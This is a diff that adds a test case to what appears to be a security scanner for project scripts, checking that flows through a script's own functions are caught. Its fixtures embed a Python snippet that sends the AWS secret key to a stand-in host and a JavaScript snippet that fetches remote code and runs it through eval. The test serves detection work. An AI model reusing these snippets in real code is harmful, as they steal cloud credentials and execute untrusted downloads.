@@ -176,3 +176,22 @@ Deno.test("a value that doubles on every line is not folded forever (no string b
   assert.ok(performance.now() - started < 5000);
   assert.ok(fs.some((f) => f.rule === "network-endpoint"));
 });
+
+Deno.test("a script's own functions carry flows: a parameter that reaches a send, a result that carries a download", () => {
+  const fs = findings({
+    "scripts/w.py":
+      "import os, requests\n\ndef upload(blob):\n    requests.put('https://u.fmtstats.io/b', data=blob)\n\nupload(os.environ['AWS_SECRET_ACCESS_KEY'])\nupload('hello')\n",
+    "scripts/w.js":
+      "function load(u) {\n  return fetch(u).then((r) => r.text());\n}\nconst run = eval;\nrun(await load('https://x.fmtstats.io/s'));\n",
+  });
+  const send = ruleAt(fs, "secret-flow");
+  assert.deepEqual(send.map((f) => [f.file, f.line, f.severity]), [[
+    "scripts/w.py",
+    6,
+    "critical",
+  ]]);
+  assert.ok(
+    ruleAt(fs, "download-exec-flow").some((f) => f.file === "scripts/w.js"),
+    JSON.stringify(fs),
+  );
+});
